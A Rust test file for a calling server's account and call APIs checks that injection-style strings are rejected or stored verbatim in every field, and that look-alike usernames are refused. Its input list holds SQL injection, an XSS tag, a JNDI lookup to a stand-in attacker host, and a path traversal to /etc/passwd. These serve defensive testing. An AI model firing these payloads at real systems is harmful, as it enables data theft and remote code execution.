//! S21: whatever somebody types is a text, in every field.

use carillon_protocol::{
    Answer, CallKind, CallScope, ChannelName, Done, Invitation, Person, Refusal, RefusalCode, Request, Signal,
};
use reqwest::StatusCode;
use serde_json::json;

use crate::support::{Device, House, PASSWORD, accept, candidate, credentials, post, registration};

/// What people have typed into the text fields of other programs.
const INJECTIONS: [&str; 14] = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "') UNION SELECT password_hash FROM users --",
    "$1",
    "%",
    "_",
    "\\",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "a\u{0}b",
    "../../etc/passwd",
    "\u{202e}gnp.exe",
];

#[tokio::test]
async fn s21_what_looks_like_sql_is_a_text_in_every_field_over_http() {
    let house = House::with(|config| config.limits.sign_ins_per_minute = 10_000).await;
    let invite = house.server.invite.clone().unwrap();
    for text in INJECTIONS {
        for field in ["invite", "user", "display_name", "password", "device_name"] {
            let mut body = registration("2222-2222-2222-2222", "ada");
            body[field] = json!(text);
            let (status, answer) = post(&house.url(), "register", body).await;
            assert!(status.is_client_error(), "{field} {text:?}: {status} {answer}");
        }
        for field in ["user", "password", "device_name", "device"] {
            let mut body = credentials("ben", PASSWORD, "laptop");
            body[field] = json!(text);
            let (status, answer) = post(&house.url(), "sign-in", body).await;
            assert!(status.is_client_error(), "{field} {text:?}: {status} {answer}");
        }
    }

    let (status, _) = post(&house.url(), "register", registration(&invite, "ada")).await;
    assert_eq!(status, StatusCode::OK, "the tables are there, and the invite is still good");
}

#[tokio::test]
async fn s21_names_that_look_like_sql_are_kept_and_found_as_they_are() {
    let house = House::open().await;
    let mut ada = house.newcomer("ada").await;
    let names: Vec<&str> = INJECTIONS.into_iter().filter(|text| !text.contains(['\u{0}', '\u{202e}'])).collect();
    for (number, name) in names.iter().enumerate() {
        let invite = house.server.mint_invites(1).await.unwrap().remove(0);
        let mut body = registration(&invite, &format!("user-{number}"));
        body["display_name"] = json!(name);
        body["device_name"] = json!(name);
        let (status, answer) = post(&house.url(), "register", body).await;
        assert_eq!((status, answer["account"]["display_name"].as_str()), (StatusCode::OK, Some(*name)));
    }

    for (number, name) in names.iter().enumerate() {
        let Done::People { people } = ada.does(Request::SearchUsers { query: (*name).into() }).await else {
            panic!("no people")
        };
        assert!(people.iter().any(|person| person.display_name == *name), "{name:?} finds itself");
        let strangers =
            people.iter().filter(|person| !person.display_name.to_lowercase().contains(&name.to_lowercase()));
        let strangers: Vec<_> = strangers.filter(|person| !person.user.as_str().contains(*name)).collect();
        assert_eq!(strangers, Vec::<&Person>::new(), "{name:?}, number {number}, finds nobody else");
    }
}

#[tokio::test]
async fn s21_what_looks_like_sql_is_a_text_in_every_field_of_a_link() {
    let house = House::open().await;
    let (mut ada, mut ben) = (house.newcomer("ada").await, house.newcomer("ben").await);
    for text in INJECTIONS {
        ada.ask(Request::SearchUsers { query: text.into() }).await;
        let message = Invitation {
            scope: CallScope::Pair { kind: CallKind::Voice },
            to: vec!["ben".parse().unwrap()],
            message: text.into(),
            channel: ChannelName::new(text).unwrap_or_else(|_| ChannelName::new("plain").unwrap()),
            access_token: None,
            uid: None,
            ring_ms: None,
            hides_address: false,
        };
        match ada.ask(Request::Invite(message)).await {
            Answer::Ok(Done::Calling { call, .. }) => {
                assert_eq!(ben.rings().await.message, text);
                ben.does(accept(call)).await;
                ada.does(Request::Media { call, signal: candidate(text) }).await;
                ada.does(Request::HangUp { call }).await;
                until_logged(&mut ada).await;
                until_logged(&mut ben).await;
            }
            Answer::Refused(Refusal { code: RefusalCode::Invalid, .. }) => {}
            other => panic!("{text:?}: {other:?}"),
        }
    }
    ada.does(Request::RecentCalls { limit: 50 }).await;
}

#[tokio::test]
async fn s21_a_name_that_looks_like_another_is_no_name() {
    let house = House::open().await;
    let invite = house.server.invite.clone().unwrap();
    for look_alike in
        ["\u{430}da", "ada\u{200b}", "\u{ff41}da", "Ada", "ADA", "ada ", "a\u{301}da", "ad\u{e4}", "ada\u{2060}"]
    {
        let (status, answer) = post(&house.url(), "register", registration(&invite, look_alike)).await;
        assert_eq!(
            (status, answer["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("bad_name")),
            "{look_alike:?}"
        );
    }
}

async fn until_logged(device: &mut Device) {
    while !matches!(device.hears().await, Signal::CallLogged(_)) {}
}
